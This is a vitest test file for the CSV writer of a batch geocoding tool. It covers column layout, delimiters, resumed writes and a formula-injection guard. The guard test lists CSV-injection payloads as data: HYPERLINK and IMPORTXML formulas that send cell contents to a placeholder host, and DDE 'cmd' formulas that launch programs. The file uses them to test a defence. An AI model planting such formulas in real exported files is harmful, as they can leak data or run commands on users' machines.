import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createCsvWriter } from '../../src/output/csv.js';
import type { WriterOptions } from '../../src/output/writer.js';
import type { Outcome } from '../../src/types.js';
import { failed, memorySink, ok, row } from './_outcomes.js';

async function writeAll(outcomes: Outcome[], options: Partial<WriterOptions> = {}) {
  const { sink, text } = memorySink();
  const warnings: string[] = [];
  const writer = createCsvWriter(sink, {
    jobColumns: ['lat', 'lon'],
    inputColumns: () => ['id', 'city'],
    onWarning: (m) => warnings.push(m),
    ...options,
  });
  for (const outcome of outcomes) writer.write(outcome);
  writer.end();
  return { csv: await text(), warnings, writer };
}

describe('CSV writer', () => {
  it('writes input columns, then job columns, then status and error; csv-parse reads the same rows back', async () => {
    const r0 = row(0, { id: '1', city: 'Köln, "Altstadt"\nNord' });
    const r1 = row(1, { id: '2', city: 'Bonn' });
    const { csv } = await writeAll([ok(r0, { columns: { lat: 50.9, lon: 6.95 } }), failed(r1, 1)], {
      formulaGuard: false,
    });
    expect(parse(csv)).toEqual([
      ['id', 'city', 'lat', 'lon', 'geobatch_status', 'geobatch_error'],
      ['1', 'Köln, "Altstadt"\nNord', '50.9', '6.95', 'ok', ''],
      ['2', 'Bonn', '', '', 'failed', 'NO_MATCH'],
    ]);
  });

  it('writes the numbers it adds with a decimal comma when asked, and the input text as it came', async () => {
    // The input's numbers (an NDJSON input's are numbers) stay as they came.
    const r0 = row(0, { id: 1.5, city: '=Köln' });
    const r1 = row(1, { id: '2', city: 'Bonn' });
    const { csv } = await writeAll(
      [ok(r0, { columns: { lat: -50.25, lon: 6 } }), ok(r1, { columns: { lat: 1e-7, lon: 7.5 } })],
      { delimiter: ';', decimal: ',' },
    );
    expect(csv).toBe(
      'id;city;lat;lon;geobatch_status;geobatch_error\n' +
        "1.5;'=Köln;-50,25;6;ok;\n" +
        '2;Bonn;1e-7;7,5;ok;\n',
    );
  });

  it('guards cells a spreadsheet would run, and leaves numbers, phone numbers, dashes and ids as they are', async () => {
    const guarded = [
      '=1+1',
      '@SUM(1+1)',
      '\tTAB',
      '\rCR',
      '+SUM(A1)',
      '+HYPERLINK("http://x.example/?"&A1,"click")',
      "-2+3+cmd|' /C calc'!A0",
      "+cmd|'/C calc'!A0",
      '-IMPORTXML (CONCAT("http://x.example/?", A1), "//a")',
      '+Sheet2!A1',
    ];
    const untouched = [
      '+49 30 1234567',
      '+4915112345678',
      '+49 (0)30 123-45',
      '+49-30-1234567',
      '-',
      '--',
      '-12.5',
      '+3e5',
      '-1,5',
      '+sB2/fG9XfRxvdA==',
      '-AbC_12x-9',
      '-x',
      'plain',
      '',
    ];
    const cells = [...guarded, ...untouched];
    const outcomes = cells.map((city, i) =>
      ok(row(i, { id: String(i), city }), { columns: { lat: city, lon: null } }),
    );
    const { csv } = await writeAll(outcomes);
    const back = parse(csv, { columns: true }) as Record<string, string>[];
    const expected = [...guarded.map((c) => `'${c}`), ...untouched];
    expect(back.map((r) => r.city)).toEqual(expected);
    expect(back.map((r) => r.lat)).toEqual(expected);
  });

  it('writes every cell byte for byte with the guard off', async () => {
    const cells = ['=1+1', '+SUM(A1)', '@x', '+49 30 1234567'];
    const outcomes = cells.map((city, i) => ok(row(i, { id: String(i), city }), { columns: {} }));
    const { csv } = await writeAll(outcomes, { formulaGuard: false });
    expect((parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.city)).toEqual(cells);
  });

  it("writes geobatch's own columns once when an earlier output or report is fed back", async () => {
    const input = ['id', 'geobatch_row', 'city', 'geobatch_status', 'geobatch_error', 'geobatch_message'];
    const earlier = {
      id: '1',
      geobatch_row: '7',
      city: 'Bonn',
      geobatch_status: 'failed',
      geobatch_error: 'NO_MATCH',
      geobatch_message: 'old',
    };
    const { csv, warnings } = await writeAll(
      [ok(row(0, earlier), { columns: { lat: 50.7, lon: 7.1 } }), failed(row(1, { ...earlier, id: '2' }), 1)],
      { inputColumns: () => input },
    );
    expect(parse(csv)).toEqual([
      ['id', 'city', 'lat', 'lon', 'geobatch_status', 'geobatch_error'],
      ['1', 'Bonn', '50.7', '7.1', 'ok', ''],
      ['2', 'Bonn', '', '', 'failed', 'NO_MATCH'],
    ]);
    expect(warnings).toEqual([]);
  });

  it("puts a job column the input already has in the input's place, with this run's value only", async () => {
    const { csv, warnings } = await writeAll(
      [
        ok(row(0, { id: '1', lat: '10', city: 'A' }), { columns: { lat: 50.1, lon: 7.1 } }),
        failed(row(1, { id: '2', lat: '20', city: 'B' }), 1),
      ],
      { inputColumns: () => ['id', 'lat', 'city'] },
    );
    expect(parse(csv)).toEqual([
      ['id', 'lat', 'city', 'lon', 'geobatch_status', 'geobatch_error'],
      ['1', '50.1', 'A', '7.1', 'ok', ''],
      // The failed row's input value is an earlier answer: it is not shown as this run's.
      ['2', '', 'B', '', 'failed', 'NO_MATCH'],
    ]);
    // The warning is the run's files' to give, once for every output (test/run/run.test.ts).
    expect(warnings).toEqual([]);
  });

  it('writes one record per hit for a row the job explodes, and one for a row without fields', async () => {
    const r0 = row(0, { id: '1', city: 'A' });
    const { csv } = await writeAll([
      ok(r0, { columns: { lat: 1 } }, { columns: { lat: 2 } }),
      failed(undefined, 1, 'INPUT_MALFORMED'),
    ]);
    expect(parse(csv)).toEqual([
      ['id', 'city', 'lat', 'lon', 'geobatch_status', 'geobatch_error'],
      ['1', 'A', '1', '', 'ok', ''],
      ['1', 'A', '2', '', 'ok', ''],
      ['', '', '', '', 'failed', 'INPUT_MALFORMED'],
    ]);
  });

  it('takes columns from the first row for JSON input, and counts and warns once about later unknown keys', async () => {
    const outcomes = [
      ok(row(0, { a: 1, b: true }), { columns: {} }),
      ok(row(1, { a: 2, c: 'x' }), { columns: {} }),
      ok(row(2, { a: 3, d: 'y' }), { columns: {} }),
    ];
    const first = outcomes[0] as Outcome;
    const { csv, warnings, writer } = await writeAll(outcomes, {
      inputColumns: () => Object.keys(first.row?.fields ?? {}),
    });
    expect(parse(csv)[0]).toEqual(['a', 'b', 'lat', 'lon', 'geobatch_status', 'geobatch_error']);
    expect(parse(csv)[1]).toEqual(['1', 'true', '', '', 'ok', '']);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/Row 2 has key "c"/);
    expect(writer.stats()).toEqual({ records: 3, unknownKeyRows: 2 });
  });

  it('lets a job column replace an input column of the same name', async () => {
    const { csv, warnings } = await writeAll(
      [ok(row(0, { id: '1', lat: 'old' }), { columns: { lat: 'new', lon: 2 } })],
      {
        inputColumns: () => ['id', 'lat'],
      },
    );
    expect(parse(csv)).toEqual([
      ['id', 'lat', 'lon', 'geobatch_status', 'geobatch_error'],
      ['1', 'new', '2', 'ok', ''],
    ]);
  });

  it('writes a header even when no row comes', async () => {
    const { csv } = await writeAll([]);
    expect(csv).toBe('id,city,lat,lon,geobatch_status,geobatch_error\n');
  });

  it('continues a file from its stored state with the same bytes as one uninterrupted write', async () => {
    const outcomes = [0, 1, 2, 3].map((i) =>
      ok(row(i, { id: String(i), city: `c${i}` }), { columns: { lat: i } }),
    );
    const whole = await writeAll(outcomes);
    const first = memorySink();
    const options = { jobColumns: ['lat', 'lon'], inputColumns: () => ['id', 'city'] };
    const w1 = createCsvWriter(first.sink, options);
    for (const o of outcomes.slice(0, 2)) w1.write(o);
    const second = memorySink();
    const w2 = createCsvWriter(second.sink, {
      ...options,
      inputColumns: () => ['other'],
      resume: w1.state(),
    });
    for (const o of outcomes.slice(2)) w2.write(o);
    w2.end();
    expect((await first.text()) + (await second.text())).toBe(whole.csv);
    expect(w2.stats().records).toBe(4);
  });

  it('writes with another delimiter', async () => {
    const { csv } = await writeAll([ok(row(0, { id: '1', city: 'a;b' }), { columns: {} })], {
      delimiter: ';',
    });
    expect(csv.split('\n')[1]).toBe('1;"a;b";;;ok;');
  });
});
